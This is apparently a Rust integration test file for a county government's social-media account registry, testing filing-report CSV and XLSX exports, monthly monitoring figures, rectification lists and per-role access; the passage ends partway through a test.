//! Reports on the real application: the filings report for upward reporting (报备) as CSV and XLSX,
//! and the monthly monitoring report (Art. 34) as a page and a workbook, with its figures, its
//! rectification list (Art. 9, Art. 29) and who may read what.
use crate::arrange::open_form;
use crate::arrange::{draft, draft_open};
use crate::helpers::{TestApp, fixed_now, location, testid_text, xlsx_sheets as workbook};
use app::domain::filing::FilingKind;
use app::domain::report::ReviewFigures;
use app::domain::{AccountStatus, deadline};
use app::error::{AppError, Problem};
use app::model::SessionUser;
use app::server::entities::{account, filing, platform, unit};
use app::server::filings::{self, UpwardReport};
use app::server::reports;
use chrono::{DateTime, NaiveDate, TimeZone, Utc};
use sea_orm::{ActiveModelTrait, ColumnTrait, EntityTrait, QueryFilter, Set};

const EDUCATION: &str = "石柱土家族自治县教育委员会";
const HEALTH: &str = "石柱土家族自治县卫生健康委员会";

const FILINGS_HEADERS_ZH: [&str; 13] = [
    "申请编号",
    "申请类型",
    "主办单位",
    "账号名称",
    "平台",
    "收到时间",
    "办结期限",
    "决定",
    "决定时间",
    "是否按期",
    "报备日期",
    "报备单位",
    "报备文号",
];

const FILINGS_HEADERS_EN: [&str; 13] = [
    "Filing number",
    "Request",
    "Host unit",
    "Account name",
    "Platform",
    "Received",
    "Due",
    "Decision",
    "Decided at",
    "On time",
    "Reported on",
    "Reported to",
    "Report reference",
];

/// An instant given as China Standard Time.
fn china(y: i32, m: u32, d: u32, h: u32, min: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(y, m, d, h, min, 0).unwrap() - chrono::Duration::hours(8)
}

fn day(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap()
}

/// SSR HTML without the `<!>` markers Leptos puts between text nodes.
fn text_of(html: &str) -> String {
    html.replace("<!>", "")
}

/// An open request of `who`'s unit for `platform`, submitted (received) at `at`.
async fn received_at(
    app: &TestApp,
    who: &SessionUser,
    platform: &str,
    name: &str,
    at: DateTime<Utc>,
) -> filing::Model {
    let unit = who.unit_name.clone().unwrap();
    let mut form = open_form(name);
    form.verification_subject = unit.clone();
    form.operating_unit = unit;
    form.collective_decision_on = "2026-08-28".into();
    form.leader_consent_on = "2026-09-01".into();
    let f = draft(
        app,
        &who.username,
        FilingKind::Open,
        Some(platform),
        None,
        form,
    )
    .await;
    filings::submit(&app.case_at(who, at), f.id).await.unwrap()
}

/// November 2026 for the education unit: one approved on time and reported upward, one rejected
/// late, one still open; one received in October; one draft never received.
struct November {
    approved: filing::Model,
    rejected: filing::Model,
    open: filing::Model,
    october: filing::Model,
}

async fn november(app: &TestApp) -> November {
    let (submitter, reviewer) = (app.user("submitter").await, app.user("reviewer").await);
    let approved = received_at(
        app,
        &submitter,
        "weibo",
        "石柱教育微博",
        china(2026, 11, 2, 10, 0),
    )
    .await;
    assert_eq!(approved.due_on, Some(day(2026, 11, 5)));
    filings::approve(
        &app.case_at(&reviewer, china(2026, 11, 4, 10, 0)),
        approved.id,
        "",
    )
    .await
    .unwrap();
    let report = UpwardReport {
        reported_on: "2026-11-05".into(),
        reported_to: "重庆市人民政府办公厅".into(),
        reference: "石府办报〔2026〕12号".into(),
    };
    filings::record_report(
        &app.case_at(&reviewer, china(2026, 11, 5, 9, 0)),
        approved.id,
        report,
    )
    .await
    .unwrap();

    let rejected = received_at(
        app,
        &submitter,
        "kuaishou",
        "石柱教育快手",
        china(2026, 11, 9, 9, 0),
    )
    .await;
    assert_eq!(rejected.due_on, Some(day(2026, 11, 12)));
    filings::reject(
        &app.case_at(&reviewer, china(2026, 11, 16, 9, 0)),
        rejected.id,
        "与已有账号功能重复",
    )
    .await
    .unwrap();

    let open = received_at(
        app,
        &submitter,
        "bilibili",
        "石柱教育B站",
        china(2026, 11, 25, 15, 0),
    )
    .await;
    assert_eq!(open.due_on, Some(day(2026, 11, 30)));

    let october = received_at(
        app,
        &submitter,
        "xiaohongshu",
        "石柱教育小红书",
        china(2026, 10, 30, 16, 0),
    )
    .await;
    draft_open(app, &submitter.username, "mini_program", "石柱教育小程序").await;
    November {
        approved,
        rejected,
        open,
        october,
    }
}

async fn get(app: &TestApp, client: &reqwest::Client, path: &str) -> reqwest::Response {
    client.get(app.url(path)).send().await.unwrap()
}

/// The CSV's records after checking the download's headers and the BOM.
async fn csv_rows(app: &TestApp, client: &reqwest::Client, path: &str) -> Vec<Vec<String>> {
    let response = get(app, client, path).await;
    assert_eq!(response.status(), 200, "{path}");
    assert_eq!(
        response.headers()["content-type"],
        "text/csv; charset=utf-8"
    );
    let bytes = response.bytes().await.unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "a BOM for Excel");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[3..])
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

async fn xlsx(
    app: &TestApp,
    client: &reqwest::Client,
    path: &str,
) -> Vec<(String, Vec<Vec<String>>)> {
    let response = get(app, client, path).await;
    assert_eq!(response.status(), 200, "{path}");
    assert_eq!(
        response.headers()["content-type"],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    workbook(&response.bytes().await.unwrap())
}

fn strings(row: &[&str]) -> Vec<String> {
    row.iter().map(|s| s.to_string()).collect()
}

// ---- The filings report -----------------------------------------------------------------------

#[tokio::test]
async fn the_filings_report_lists_every_filing_received_in_the_period_with_its_decision_and_upward_report()
 {
    let app = TestApp::spawn().await;
    let n = november(&app).await;
    let reviewer = app.signed_in("reviewer").await;

    let response = get(
        &app,
        &reviewer,
        "/exports/filings.csv?from=2026-11-01&to=2026-11-30",
    )
    .await;
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.headers()["content-disposition"],
        "attachment; filename=\"filings-2026-11-01-to-2026-11-30.csv\"; \
         filename*=UTF-8''%E6%8A%A5%E5%A4%87%E7%BB%9F%E8%AE%A1-2026-11-01%E8%87%B32026-11-30.csv"
    );
    let rows = csv_rows(
        &app,
        &reviewer,
        "/exports/filings.csv?from=2026-11-01&to=2026-11-30",
    )
    .await;

    assert_eq!(rows[0], FILINGS_HEADERS_ZH);
    assert_eq!(
        rows[1..],
        [
            strings(&[
                &n.approved.number,
                "开设",
                EDUCATION,
                "石柱教育微博",
                "新浪微博",
                "2026-11-02 10:00",
                "2026-11-05",
                "已批准",
                "2026-11-04 10:00",
                "是",
                "2026-11-05",
                "重庆市人民政府办公厅",
                "石府办报〔2026〕12号",
            ]),
            strings(&[
                &n.rejected.number,
                "开设",
                EDUCATION,
                "石柱教育快手",
                "快手",
                "2026-11-09 09:00",
                "2026-11-12",
                "已驳回",
                "2026-11-16 09:00",
                "否",
                "",
                "",
                "",
            ]),
            // Still open: no decision yet, so neither on time nor late.
            strings(&[
                &n.open.number,
                "开设",
                EDUCATION,
                "石柱教育B站",
                "哔哩哔哩",
                "2026-11-25 15:00",
                "2026-11-30",
                "待审核",
                "",
                "",
                "",
                "",
                "",
            ]),
        ]
    );
}

#[tokio::test]
async fn the_filings_report_as_xlsx_has_the_same_headers_and_values_with_the_chinese_intact() {
    let app = TestApp::spawn().await;
    let n = november(&app).await;
    let reviewer = app.signed_in("reviewer").await;
    let csv = csv_rows(
        &app,
        &reviewer,
        "/exports/filings.csv?from=2026-11-01&to=2026-11-30",
    )
    .await;

    let response = get(
        &app,
        &reviewer,
        "/exports/filings.xlsx?from=2026-11-01&to=2026-11-30",
    )
    .await;
    assert_eq!(response.status(), 200);
    assert!(
        response.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment; filename=\"filings-2026-11-01-to-2026-11-30.xlsx\"")
    );
    let sheets = workbook(&response.bytes().await.unwrap());

    assert_eq!(sheets.len(), 1);
    let (name, rows) = &sheets[0];
    assert_eq!(name, "报备统计");
    assert_eq!(rows[0], FILINGS_HEADERS_ZH);
    assert_eq!(rows, &csv);
    assert_eq!(rows[1][0], n.approved.number);
    assert_eq!(rows[1][11], "重庆市人民政府办公厅");
}

#[tokio::test]
async fn the_filings_report_has_english_headers_and_values_with_lang_en() {
    let app = TestApp::spawn().await;
    let n = november(&app).await;
    let reviewer = app.signed_in("reviewer").await;

    let rows = csv_rows(
        &app,
        &reviewer,
        "/exports/filings.csv?from=2026-11-01&to=2026-11-10&lang=en",
    )
    .await;

    assert_eq!(rows[0], FILINGS_HEADERS_EN);
    assert_eq!(rows.len(), 3, "received from 1 to 10 November");
    assert_eq!(
        rows[1],
        strings(&[
            &n.approved.number,
            "Open",
            EDUCATION,
            "石柱教育微博",
            "Weibo",
            "2026-11-02 10:00",
            "2026-11-05",
            "Approved",
            "2026-11-04 10:00",
            "Yes",
            "2026-11-05",
            "重庆市人民政府办公厅",
            "石府办报〔2026〕12号",
        ])
    );
    assert_eq!(
        rows[2][7..10],
        strings(&["Rejected", "2026-11-16 09:00", "No"])
    );
    let sheets = xlsx(
        &app,
        &reviewer,
        "/exports/filings.xlsx?from=2026-11-01&to=2026-11-10&lang=en",
    )
    .await;
    assert_eq!(sheets[0].0, "Filings");
    assert_eq!(sheets[0].1, rows);
}

#[tokio::test]
async fn the_period_includes_both_of_its_days_in_china_time() {
    let app = TestApp::spawn().await;
    let n = november(&app).await;
    let reviewer = app.signed_in("reviewer").await;
    let numbers = |rows: Vec<Vec<String>>| -> Vec<String> {
        rows[1..].iter().map(|r| r[0].clone()).collect()
    };

    // Received 30 October 16:00 China time (08:00 UTC).
    let october = csv_rows(
        &app,
        &reviewer,
        "/exports/filings.csv?from=2026-10-30&to=2026-10-30",
    )
    .await;
    assert_eq!(numbers(october), [n.october.number.as_str()]);
    let one_day = csv_rows(
        &app,
        &reviewer,
        "/exports/filings.csv?from=2026-11-25&to=2026-11-25",
    )
    .await;
    assert_eq!(numbers(one_day), [n.open.number.as_str()]);
    let none = csv_rows(
        &app,
        &reviewer,
        "/exports/filings.csv?from=2026-11-26&to=2026-11-27",
    )
    .await;
    assert_eq!(none, [FILINGS_HEADERS_ZH.map(String::from).to_vec()]);
    // A whole year: every filing ever received, none of the drafts.
    let year = csv_rows(
        &app,
        &reviewer,
        "/exports/filings.csv?from=2026-01-01&to=2026-12-31",
    )
    .await;
    assert_eq!(
        numbers(year),
        [
            n.approved.number.clone(),
            n.rejected.number.clone(),
            n.open.number.clone(),
            n.october.number.clone(),
        ]
    );
}

#[tokio::test]
async fn a_bad_period_is_refused_with_a_clear_message_and_400() {
    let app = TestApp::spawn().await;
    let reviewer = app.signed_in("reviewer").await;
    let cases = [
        (
            "?to=2026-11-30",
            "请按“年-月-日”填写起始日期和截止日期，两项均为必填。",
        ),
        (
            "?from=2026-11-01",
            "请按“年-月-日”填写起始日期和截止日期，两项均为必填。",
        ),
        (
            "?from=2026/11/01&to=2026-11-30",
            "请按“年-月-日”填写起始日期和截止日期，两项均为必填。",
        ),
        (
            "?from=2026-11-31&to=2026-12-01",
            "请按“年-月-日”填写起始日期和截止日期，两项均为必填。",
        ),
        (
            "?from=2026-12-01&to=2026-11-30",
            "起始日期不能晚于截止日期。",
        ),
        (
            "?from=2026-01-01&to=2027-01-02",
            "一次最多统计366天，请缩短起止日期之间的期间。",
        ),
    ];
    for format in ["csv", "xlsx"] {
        for (query, message) in cases {
            let path = format!("/exports/filings.{format}{query}");
            let response = get(&app, &reviewer, &path).await;
            assert_eq!(response.status(), 400, "{path}");
            assert!(
                response.headers()["content-type"]
                    .to_str()
                    .unwrap()
                    .starts_with("text/html"),
                "{path}"
            );
            assert!(response.headers().get("content-disposition").is_none());
            let html = response.text().await.unwrap();
            assert!(html.contains(message), "{path}: {html}");
        }
    }
    // In English, when the file is asked for in English.
    let response = get(
        &app,
        &reviewer,
        "/exports/filings.csv?from=2026-12-01&to=2026-11-30&lang=en",
    )
    .await;
    assert_eq!(response.status(), 400);
    let html = response.text().await.unwrap();
    assert!(
        html.contains("The start of the period cannot be after its end."),
        "{html}"
    );
    assert!(html.contains(r#"<html lang="en">"#));
    // The service says which problem it was.
    assert_eq!(
        reports::read_period(Some("2026-01-01"), Some("2027-01-02")),
        Err(AppError::invalid("period", Problem::PeriodTooLong))
    );
}

#[tokio::test]
async fn a_submitter_reports_on_their_own_units_filings_only() {
    let app = TestApp::spawn().await;
    let n = november(&app).await;
    let health = app
        .add_user("health-staff", "submitter", Some("health"))
        .await;
    let other = received_at(
        &app,
        &health,
        "weibo",
        "健康石柱微博",
        china(2026, 11, 10, 10, 0),
    )
    .await;
    let submitter = app.signed_in("submitter").await;
    let path = "/exports/filings.csv?from=2026-11-01&to=2026-11-30";

    let own = csv_rows(&app, &submitter, path).await;
    let numbers: Vec<&str> = own[1..].iter().map(|r| r[0].as_str()).collect();
    assert_eq!(
        numbers,
        [
            n.approved.number.as_str(),
            n.rejected.number.as_str(),
            n.open.number.as_str()
        ]
    );
    assert!(own[1..].iter().all(|r| r[2] == EDUCATION));
    let sheets = xlsx(
        &app,
        &submitter,
        "/exports/filings.xlsx?from=2026-11-01&to=2026-11-30",
    )
    .await;
    assert_eq!(sheets[0].1, own);

    // The county office sees both units, in the order received.
    let reviewer = app.signed_in("reviewer").await;
    let all = csv_rows(&app, &reviewer, path).await;
    assert_eq!(all.len(), 5);
    let theirs = all.iter().find(|r| r[0] == other.number).unwrap();
    assert_eq!(theirs[2..5], strings(&[HEALTH, "健康石柱微博", "新浪微博"]));
    // So do administrators and auditors.
    for role in ["admin", "auditor"] {
        let client = app.signed_in(role).await;
        assert_eq!(csv_rows(&app, &client, path).await, all, "{role}");
    }
}

#[tokio::test]
async fn a_signed_out_visitor_is_sent_to_sign_in_for_any_report() {
    let app = TestApp::spawn().await;
    let anonymous = app.client();
    for path in [
        "/exports/filings.csv?from=2026-11-01&to=2026-11-30",
        "/exports/filings.xlsx?from=2026-11-01&to=2026-11-30",
        "/reports/monthly",
        "/reports/monthly.xlsx?month=2026-11",
    ] {
        let response = get(&app, &anonymous, path).await;
        assert_eq!(response.status(), 303, "{path}");
        assert!(location(&response).starts_with("/login?next="), "{path}");
    }
}

// ---- The monthly report -----------------------------------------------------------------------

/// October 2026 for the education unit, decided on the deadline clock: one decision on time, two
/// late (one of a filing received in September), one filing open and overdue at the month's end,
/// one open but not yet due (decided in November); one returned late and resubmitted in November.
async fn october(app: &TestApp) {
    let (submitter, reviewer) = (app.user("submitter").await, app.user("reviewer").await);
    // Received Monday 12 October: due Thursday 15th; approved that afternoon.
    let on_time = received_at(
        app,
        &submitter,
        "weibo",
        "石柱教育微博",
        china(2026, 10, 12, 10, 0),
    )
    .await;
    assert_eq!(on_time.due_on, Some(day(2026, 10, 15)));
    filings::approve(
        &app.case_at(&reviewer, china(2026, 10, 15, 16, 0)),
        on_time.id,
        "",
    )
    .await
    .unwrap();
    // Same day, returned a day late, resubmitted in November (a November receipt).
    let returned = received_at(
        app,
        &submitter,
        "kuaishou",
        "石柱教育快手",
        china(2026, 10, 12, 11, 0),
    )
    .await;
    filings::return_for_correction(
        &app.case_at(&reviewer, china(2026, 10, 16, 9, 0)),
        returned.id,
        "补充集体决策材料",
    )
    .await
    .unwrap();
    let resubmitted = filings::submit(
        &app.case_at(&submitter, china(2026, 11, 2, 9, 0)),
        returned.id,
    )
    .await
    .unwrap();
    assert_eq!(resubmitted.due_on, Some(day(2026, 11, 5)));
    // Received Monday 21 September, due the 24th (before the Mid-Autumn holiday), rejected in October.
    let september = received_at(
        app,
        &submitter,
        "bilibili",
        "石柱教育B站",
        china(2026, 9, 21, 10, 0),
    )
    .await;
    assert_eq!(september.due_on, Some(day(2026, 9, 24)));
    filings::reject(
        &app.case_at(&reviewer, china(2026, 10, 9, 10, 0)),
        september.id,
        "不符合要求",
    )
    .await
    .unwrap();
    // Received Monday 26 October, due the 29th, never decided.
    let overdue = received_at(
        app,
        &submitter,
        "xiaohongshu",
        "石柱教育小红书",
        china(2026, 10, 26, 10, 0),
    )
    .await;
    assert_eq!(overdue.due_on, Some(day(2026, 10, 29)));
    // Received Thursday 29 October, due Tuesday 3 November, approved on 2 November.
    let later = received_at(
        app,
        &submitter,
        "mini_program",
        "石柱教育服务",
        china(2026, 10, 29, 10, 0),
    )
    .await;
    assert_eq!(later.due_on, Some(day(2026, 11, 3)));
    filings::approve(
        &app.case_at(&reviewer, china(2026, 11, 2, 10, 0)),
        later.id,
        "",
    )
    .await
    .unwrap();
}

#[tokio::test]
async fn the_monthly_report_counts_the_months_filings_on_the_deadline_clock() {
    let app = TestApp::spawn().await;
    october(&app).await;
    let reviewer = app.user("reviewer").await;

    let report = reports::monthly(&app.case(&reviewer), Some("2026-10"))
        .await
        .unwrap();
    assert_eq!(report.month, "2026-10");
    assert_eq!(
        report.review,
        ReviewFigures {
            received: 4,
            decided: 3,
            decided_on_time: 1,
            decided_late: 2,
            open_at_end: 2,
            overdue_at_end: 1,
            as_of: day(2026, 10, 31),
        }
    );
    assert_eq!(report.on_time_rate.as_deref(), Some("33.3%"));

    // The running month counts what is open today (27 November): the resubmission, due on the 5th,
    // and October's overdue filing.
    let current = reports::monthly(&app.case(&reviewer), None).await.unwrap();
    assert_eq!(current.month, "2026-11");
    assert_eq!(
        current.review,
        ReviewFigures {
            received: 1,
            decided: 1,
            decided_on_time: 1,
            decided_late: 0,
            open_at_end: 2,
            overdue_at_end: 2,
            as_of: day(2026, 11, 27),
        }
    );

    // The page shows the same figures.
    let client = app.signed_in("reviewer").await;
    let html = text_of(&app.html(&client, "/reports/monthly?month=2026-10").await);
    let figure = |id: &str| testid_text(&html, &format!("review-{id}")).unwrap();
    assert_eq!(figure("received"), "4");
    assert_eq!(figure("decided"), "3");
    assert_eq!(figure("decided-on-time"), "1");
    assert_eq!(figure("decided-late"), "2");
    assert_eq!(figure("on-time-rate"), "33.3%");
    assert_eq!(figure("open-at-end"), "2");
    assert_eq!(figure("overdue-at-end"), "1");
    assert!(html.contains("截至 2026-10-31 已逾期未办结"), "{html}");
    // The filings report for the month is a form away.
    assert!(html.contains(r#"action="/exports/filings.csv""#));
    assert!(html.contains(r#"name="from" type="date" value="2026-10-01""#));
    assert!(html.contains(r#"name="to" type="date" value="2026-10-31""#));
}

#[tokio::test]
async fn the_monthly_report_counts_accounts_by_platform_status_and_unit() {
    let app = TestApp::spawn().await;
    let reviewer = app.user("reviewer").await;

    let report = reports::monthly(&app.case(&reviewer), Some("2026-11"))
        .await
        .unwrap();

    // The demo registry: 32 accounts, two suspended and one deregistered.
    assert_eq!(report.accounts.counts, [29, 2, 1]);
    assert_eq!(report.accounts.total, 32);
    let platform = |code: &str| {
        report
            .by_platform
            .iter()
            .find(|(p, _)| p.code == code)
            .map(|(_, c)| (c.counts.clone(), c.total))
    };
    assert_eq!(platform("wechat_oa"), Some((vec![14, 1, 1], 16)));
    assert_eq!(platform("douyin"), Some((vec![6, 0, 0], 6)));
    assert_eq!(platform("weibo"), Some((vec![2, 0, 0], 2)));
    assert_eq!(platform("wechat_channels"), Some((vec![0, 1, 0], 1)));
    let codes: Vec<&str> = report
        .by_platform
        .iter()
        .map(|(p, _)| p.code.as_str())
        .collect();
    assert_eq!(
        codes,
        [
            "wechat_oa",
            "wechat_channels",
            "weibo",
            "douyin",
            "toutiao",
            "kuaishou",
            "bilibili",
            "xiaohongshu",
            "app",
            "mini_program"
        ],
        "the catalogue's order"
    );
    let total: u64 = report.by_platform.iter().map(|(_, c)| c.total).sum();
    assert_eq!(total, 32);

    // Every unit that hosts accounts, and only those.
    assert_eq!(report.by_unit.len(), 17);
    let unit = |name: &str| {
        report
            .by_unit
            .iter()
            .find(|(u, _)| u == name)
            .map(|(_, c)| (c.counts.clone(), c.total))
    };
    assert_eq!(unit(EDUCATION), Some((vec![3, 1, 0], 4)));
    assert_eq!(
        unit("石柱土家族自治县交通运输委员会"),
        Some((vec![0, 0, 1], 1))
    );
    assert_eq!(unit("石柱土家族自治县人民政府办公室政务公开科"), None);
    assert_eq!(report.by_unit[0].0, "石柱土家族自治县人民政府办公室");

    // On the page.
    let client = app.signed_in("reviewer").await;
    let html = text_of(&app.html(&client, "/reports/monthly?month=2026-11").await);
    assert!(
        html.contains("<h1>政务新媒体月度监测报告（2026-11）</h1>"),
        "{html}"
    );
    assert!(html.contains(
        r#"<tr data-testid="status-row" data-status="active"><th scope="row">运营中</th><td class="number">29</td></tr>"#
    ));
    assert!(html.contains(
        r#"<tr data-testid="platform-row" data-platform="wechat_oa"><th scope="row">微信公众号</th><td class="number">14</td><td class="number">1</td><td class="number">1</td><td class="number total">16</td></tr>"#
    ), "{html}");
    assert!(html.contains(&format!(
        r#"<tr data-testid="unit-row"><th scope="row">{EDUCATION}</th><td class="number">3</td><td class="number">1</td><td class="number">0</td><td class="number total">4</td></tr>"#
    )));
    assert_eq!(html.matches(r#"data-testid="unit-row""#).count(), 17);
}

/// An account inserted directly, as an import would leave it.
#[allow(clippy::too_many_arguments)]
async fn insert_account(
    app: &TestApp,
    unit_code: &str,
    platform_code: &str,
    name: &str,
    status: &str,
    (custodian_name, custodian_mobile): (&str, &str),
    rotated_on: Option<NaiveDate>,
    waiver: Option<&str>,
) -> account::Model {
    let unit = unit::Entity::find()
        .filter(unit::Column::Code.eq(unit_code))
        .one(&app.db)
        .await
        .unwrap()
        .unwrap();
    let platform = platform::Entity::find()
        .filter(platform::Column::Code.eq(platform_code))
        .one(&app.db)
        .await
        .unwrap()
        .unwrap();
    account::ActiveModel {
        host_unit_id: Set(unit.id),
        platform_id: Set(platform.id),
        name: Set(name.into()),
        platform_account_id: Set(None),
        verification_subject: Set(unit.name.clone()),
        operating_unit: Set(unit.name.clone()),
        outsourced: Set(false),
        purpose: Set("政务信息发布".into()),
        opened_on: Set(day(2020, 5, 1)),
        status: Set(AccountStatus::parse(status).unwrap()),
        in_national_system: Set(false),
        custodian_name: Set(custodian_name.into()),
        custodian_mobile: Set(custodian_mobile.into()),
        password_rotated_on: Set(rotated_on),
        art9_waiver: Set(waiver.map(str::to_string)),
        created_at: Set(fixed_now()),
        updated_at: Set(fixed_now()),
        ..Default::default()
    }
    .insert(&app.db)
    .await
    .unwrap()
}

const WAIVER: &str = "历史遗留账号，2027年6月底前整合";

/// A legacy duplicate with a waiver, a deregistered one that is no duplicate, accounts without a
/// custodian (or part of one), one whose password was last changed in January, one never recorded.
struct Rectification {
    duplicate: account::Model,
    no_custodian: account::Model,
    no_mobile: account::Model,
    old_password: account::Model,
    never_changed: account::Model,
    deregistered: account::Model,
}

async fn rectification(app: &TestApp) -> Rectification {
    let today = Some(day(2026, 11, 27));
    Rectification {
        duplicate: insert_account(
            app,
            "education",
            "wechat_oa",
            "石柱教育发布",
            "active",
            ("冉强", "13900001111"),
            today,
            Some(WAIVER),
        )
        .await,
        deregistered: insert_account(
            app,
            "health",
            "wechat_oa",
            "石柱卫健旧号",
            "deregistered",
            ("", ""),
            Some(day(2025, 1, 1)),
            None,
        )
        .await,
        no_custodian: insert_account(
            app,
            "health",
            "weibo",
            "健康石柱",
            "active",
            ("", ""),
            today,
            None,
        )
        .await,
        no_mobile: insert_account(
            app,
            "ecology",
            "douyin",
            "石柱生态环境",
            "suspended",
            ("向燕", " "),
            today,
            None,
        )
        .await,
        old_password: insert_account(
            app,
            "emergency",
            "douyin",
            "石柱应急",
            "active",
            ("陈军", "13900002222"),
            Some(day(2026, 1, 5)),
            None,
        )
        .await,
        never_changed: insert_account(
            app,
            "emergency",
            "weibo",
            "石柱应急",
            "active",
            ("陈军", "13900003333"),
            None,
            None,
        )
        .await,
    }
}

#[tokio::test]
async fn the_rectification_list_names_duplicates_missing_custodians_and_overdue_passwords() {
    let app = TestApp::spawn().await;
    let r = rectification(&app).await;
    let reviewer = app.user("reviewer").await;

    let report = reports::monthly(&app.case(&reviewer), None).await.unwrap();

    // Art. 9: the unit's two live WeChat accounts, the waiver shown; the deregistered account of
    // the health unit is no duplicate.
    assert_eq!(report.duplicates.len(), 1);
    let group = &report.duplicates[0];
    assert_eq!(
        (group.unit.as_str(), group.platform.code.as_str()),
        (EDUCATION, "wechat_oa")
    );
    let listed: Vec<(i32, &str, Option<&str>)> = group
        .accounts
        .iter()
        .map(|(a, waiver)| (a.id, a.name.as_str(), waiver.as_deref()))
        .collect();
    let original = app.account_id("education", "wechat_oa").await;
    assert_eq!(
        listed,
        [
            (original, "石柱教育", None),
            (r.duplicate.id, "石柱教育发布", Some(WAIVER))
        ]
    );

    // Art. 29: live accounts without a custodian's name or mobile.
    let missing: Vec<(i32, bool, bool)> = report
        .without_custodian
        .iter()
        .map(|m| (m.account.id, m.name_missing, m.mobile_missing))
        .collect();
    assert_eq!(
        missing,
        [
            (r.no_mobile.id, false, true),
            (r.no_custodian.id, true, true)
        ],
        "by unit (ecology before health), then platform"
    );

    // Art. 29: live accounts overdue for rotation under the 90-day setting, with the demo's own.
    let overdue: Vec<i32> = report
        .rotation_overdue
        .iter()
        .map(|o| o.account.id)
        .collect();
    assert!(overdue.contains(&r.old_password.id));
    assert!(overdue.contains(&r.never_changed.id));
    assert!(!overdue.contains(&r.deregistered.id));
    assert!(!overdue.contains(&r.no_custodian.id));
    let never = report
        .rotation_overdue
        .iter()
        .find(|o| o.account.id == r.never_changed.id)
        .unwrap();
    assert_eq!(never.rotated_on, None);
    let accounts = account::Entity::find().all(&app.db).await.unwrap();
    let mut expected: Vec<i32> = accounts
        .iter()
        .filter(|a| a.status != AccountStatus::Deregistered)
        .filter(|a| deadline::rotation_overdue(a.password_rotated_on, day(2026, 11, 27), 90))
        .map(|a| a.id)
        .collect();
    let mut listed = overdue.clone();
    expected.sort();
    listed.sort();
    assert_eq!(listed, expected);
    assert!(overdue.len() > 2, "the demo has overdue rotations too");

    // The page lists them, and never a custodian's mobile.
    let client = app.signed_in("reviewer").await;
    let html = text_of(&app.html(&client, "/reports/monthly").await);
    assert!(html.contains(WAIVER));
    assert!(html.contains(&format!(
        r#"data-testid="duplicate-row" data-account="{}""#,
        r.duplicate.id
    )));
    assert!(html.contains(&format!(
        r#"data-testid="custodian-row" data-account="{}""#,
        r.no_custodian.id
    )));
    assert!(html.contains("保管人姓名和手机"));
    assert!(html.contains(&format!(
        r#"data-testid="rotation-row" data-account="{}""#,
        r.old_password.id
    )));
    assert!(html.contains("超过 90 天未更换密码的账号（第二十九条）"));
    for a in &accounts {
        if !a.custodian_mobile.trim().is_empty() {
            assert!(
                !html.contains(&a.custodian_mobile),
                "{} shown",
                a.custodian_mobile
            );
        }
    }
}

#[tokio::test]
async fn the_monthly_workbook_has_one_sheet_per_section() {
    let app = TestApp::spawn().await;
    october(&app).await;
    let r = rectification(&app).await;
    let reviewer = app.signed_in("reviewer").await;

    let response = get(&app, &reviewer, "/reports/monthly.xlsx?month=2026-10").await;
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.headers()["content-disposition"],
        "attachment; filename=\"monthly-report-2026-10.xlsx\"; \
         filename*=UTF-8''%E6%94%BF%E5%8A%A1%E6%96%B0%E5%AA%92%E4%BD%93%E6%9C%88%E5%BA%A6%E6%8A%A5%E5%91%8A-2026-10.xlsx"
    );
    let sheets = workbook(&response.bytes().await.unwrap());

    let names: Vec<&str> = sheets.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(
        names,
        [
            "概况",
            "按平台统计",
            "按状态统计",
            "按主办单位统计",
            "备案审核情况",
            "整改-重复账号",
            "整改-未落实保管人",
            "整改-密码逾期未换"
        ]
    );
    let sheet = |name: &str| sheets.iter().find(|(n, _)| n == name).unwrap().1.clone();
    let table =
        |rows: &[&[&str]]| -> Vec<Vec<String>> { rows.iter().map(|r| strings(r)).collect() };
    // The demo's 32 accounts, two opened by the scenario's approvals, six inserted.
    assert_eq!(
        sheet("概况"),
        table(&[
            &["项目", "数值"],
            &["报告月份", "2026-10"],
            &["制表日期", "2026-11-27"],
            &["账号总数", "40"],
            &["密码更换周期（天）", "90"],
        ])
    );
    assert_eq!(
        sheet("按状态统计"),
        table(&[
            &["状态", "账号数"],
            &["运营中", "35"],
            &["已关停", "3"],
            &["已注销", "2"],
            &["合计", "40"],
        ])
    );
    let by_platform = sheet("按平台统计");
    assert_eq!(
        by_platform[0],
        strings(&["平台", "运营中", "已关停", "已注销", "合计"])
    );
    assert_eq!(
        by_platform[1],
        strings(&["微信公众号", "15", "1", "2", "18"])
    );
    assert_eq!(
        by_platform.last().unwrap(),
        &strings(&["合计", "35", "3", "2", "40"])
    );
    let by_unit = sheet("按主办单位统计");
    assert_eq!(
        by_unit[0],
        strings(&["主办单位", "运营中", "已关停", "已注销", "合计"])
    );
    assert!(by_unit.contains(&strings(&[EDUCATION, "6", "1", "0", "7"])));
    assert_eq!(
        by_unit.last().unwrap(),
        &strings(&["合计", "35", "3", "2", "40"])
    );
    assert_eq!(
        sheet("备案审核情况"),
        table(&[
            &["项目", "数值"],
            &["本月收到", "4"],
            &["本月办结（批准、退回补正或驳回）", "3"],
            &["其中按期办结", "1"],
            &["其中逾期办结", "2"],
            &["按期办结率", "33.3%"],
            &["截至 2026-10-31 仍在审核", "2"],
            &["截至 2026-10-31 已逾期未办结", "1"],
        ])
    );
    assert_eq!(
        sheet("整改-重复账号"),
        table(&[
            &["主办单位", "平台", "账号名称", "状态", "例外说明"],
            &[EDUCATION, "微信公众号", "石柱教育", "运营中", ""],
            &[EDUCATION, "微信公众号", "石柱教育发布", "运营中", WAIVER],
        ])
    );
    assert_eq!(
        sheet("整改-未落实保管人"),
        table(&[
            &["主办单位", "平台", "账号名称", "状态", "缺少"],
            &[
                "石柱土家族自治县生态环境局",
                "抖音",
                "石柱生态环境",
                "已关停",
                "保管人手机"
            ],
            &[HEALTH, "新浪微博", "健康石柱", "运营中", "保管人姓名和手机"],
        ])
    );
    let rotation = sheet("整改-密码逾期未换");
    assert_eq!(
        rotation[0],
        strings(&["主办单位", "平台", "账号名称", "状态", "最近改密日期"])
    );
